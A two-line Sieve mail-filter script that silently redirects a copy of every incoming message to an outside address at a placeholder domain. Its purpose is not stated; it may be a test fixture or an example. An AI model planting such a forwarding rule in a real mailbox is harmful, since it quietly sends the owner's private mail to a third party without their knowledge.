require "copy";
redirect :copy "collector@mailhub.example";
